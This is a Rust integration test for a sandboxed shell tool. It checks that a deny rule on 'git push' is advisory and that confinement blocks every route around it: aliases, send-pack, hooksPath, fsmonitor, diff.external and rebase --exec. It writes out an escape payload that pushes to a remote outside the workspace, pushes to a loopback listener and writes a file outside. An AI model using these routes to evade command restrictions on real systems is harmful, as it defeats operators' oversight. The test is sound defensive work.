//! Word rules on a program that runs programs: `--deny 'host.git:push*'` judges the words toolsh
//! starts git with, not what git starts next. Every route of issue 47 by which git pushes or
//! runs a program the words do not name (an alias, plumbing, a hooks path, fsmonitor, an
//! external diff, `rebase --exec`) is tried against a remote outside the workspace, a host
//! file beside it and a TCP listener on the host: the typed `git push` is refused by the rule,
//! and each other route reaches git — the rule is advisory, as docs/tools.md and `config tools`
//! say — and then nothing outside, because the confinement is the boundary.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

/// Runs real git on the host (the test's own set-up and checks).
fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git").current_dir(dir).args(args).output().expect("git");
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
#[allow(clippy::disallowed_types)] // a listener on loopback that no route may reach
fn a_word_rule_on_git_is_advisory_and_the_confinement_holds_on_every_route() {
    let Some((outer, ws, host)) = super::program_dirs() else { return };
    let base = outer.path().canonicalize().expect("canonical");
    git(&host, &["init", "-q", "--bare", "remote.git"]);
    let remote = host.join("remote.git");
    git(&ws, &["init", "-q", "-b", "main", "."]);
    git(&ws, &["config", "user.name", "Ada"]);
    git(&ws, &["config", "user.email", "ada@example.com"]);
    for n in ["1", "2"] {
        std::fs::write(ws.join("f"), n).expect("file");
        git(&ws, &["add", "f"]);
        git(&ws, &["commit", "-q", "-m", n]);
    }
    git(&ws, &["remote", "add", "origin", &remote.display().to_string()]);
    git(&ws, &["push", "-q", "origin", "main"]);
    let refs = || git(&remote, &["for-each-ref"]);
    let before = refs();
    // A listener on the host: a push over the network would knock here.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("address").port();
    let pwned = host.join("pwned");
    // What the routes run: a push to the remote outside, a push over the network, a file
    // written outside.
    let payload = format!(
        "git push -q origin HEAD:refs/heads/stolen; git push -q http://127.0.0.1:{port}/r.git HEAD; touch {}",
        pwned.display()
    );
    std::fs::create_dir_all(ws.join("hooks")).expect("hooks");
    for (file, text) in [
        ("hooks/pre-commit", format!("#!/bin/sh\n{payload}\nexit 0\n")),
        ("ext.sh", format!("#!/bin/sh\n{payload}\nexit 0\n")),
        ("monitor.sh", format!("#!/bin/sh\n{payload}\nexit 1\n")),
    ] {
        std::fs::write(ws.join(file), text).expect("script");
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(ws.join(file), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let ws_text = ws.display().to_string();
    let remote_text = remote.display().to_string();
    let routes: Vec<(String, bool)> = vec![
        // (line, refused by the rule before anything runs)
        ("git push origin HEAD:refs/heads/stolen".into(), true),
        ("git -c k=v push origin HEAD:refs/heads/stolen".into(), true),
        ("git -c alias.x=push x origin HEAD:refs/heads/stolen".into(), false),
        (format!("git -c alias.x=push x http://127.0.0.1:{port}/r.git HEAD"), false),
        (format!("git send-pack {remote_text} main:stolen"), false),
        // The payload typed in the words: its `push` is a word the rule sees.
        (format!("git -c alias.y='!{payload}' y"), true),
        (format!("git rebase -q --exec '{payload}' HEAD~1"), true),
        // The same through a script the words do not show.
        (format!("git -c alias.y='!{ws_text}/ext.sh' y"), false),
        (format!("git -c diff.external={ws_text}/ext.sh diff HEAD~1"), false),
        ("git -c core.hooksPath=hooks commit -q --allow-empty -m hooked".into(), false),
        (format!("git -c core.fsmonitor={ws_text}/monitor.sh status --short"), false),
        (format!("git rebase -q --exec {ws_text}/ext.sh HEAD~1"), false),
    ];
    let argv = |line: &str| -> Vec<String> {
        let store = base.join("store.db").display().to_string();
        [
            "--root",
            &ws_text,
            "--store",
            &store,
            "--host",
            "git",
            "--allow",
            "host.git:*",
            "--deny",
            "host.git:push*",
            "-c",
            line,
        ]
        .map(str::to_string)
        .to_vec()
    };
    let path = vec![("PATH", "/usr/local/bin:/usr/bin:/bin".to_string())];
    let mut found = Vec::new();
    for (line, refused) in &routes {
        let ran = crate::support::run_binary_with(&ws, &argv(line), &path, Duration::from_secs(60));
        let mut what = Vec::new();
        if *refused && ran.status != 126 {
            what.push(format!("not refused by the rule (status {})", ran.status));
        }
        if !*refused && ran.stderr.contains("denied") {
            what.push("refused by the rule: the route no longer reaches git, update this table".to_string());
        }
        // A route that reaches git must have tried (and failed) to push: otherwise it proves
        // nothing.
        let tried = ran.stderr.contains("does not appear to be a git repository")
            || ran.stderr.contains("Couldn't connect to server");
        if !*refused && !tried {
            what.push("git tried no push: the route proves nothing, fix the case".to_string());
        }
        if ran.status < 0 {
            what.push("did not end".to_string());
        }
        if refs() != before {
            what.push(format!("the remote outside changed: {}", refs()));
        }
        if pwned.exists() {
            what.push("a file outside was written".to_string());
        }
        if listener.accept().is_ok() {
            what.push("the host's listener was reached".to_string());
        }
        if std::env::var_os("TOOLSH_SHOW").is_some() {
            eprintln!("{line}: {} {}", ran.status, ran.stderr);
        }
        if !what.is_empty() {
            found.push(format!("{line:?}: {} ({})", what.join(", "), ran.stderr.chars().take(300).collect::<String>()));
        }
    }
    super::assert_none("programs that run programs", found);
    // The operator is told beside git's verdict.
    let ran = crate::support::run_binary_with(&ws, &argv("config tools host.git"), &path, Duration::from_secs(60));
    assert!(ran.stdout.contains("word rules are advisory"), "{}", ran.stdout);
}
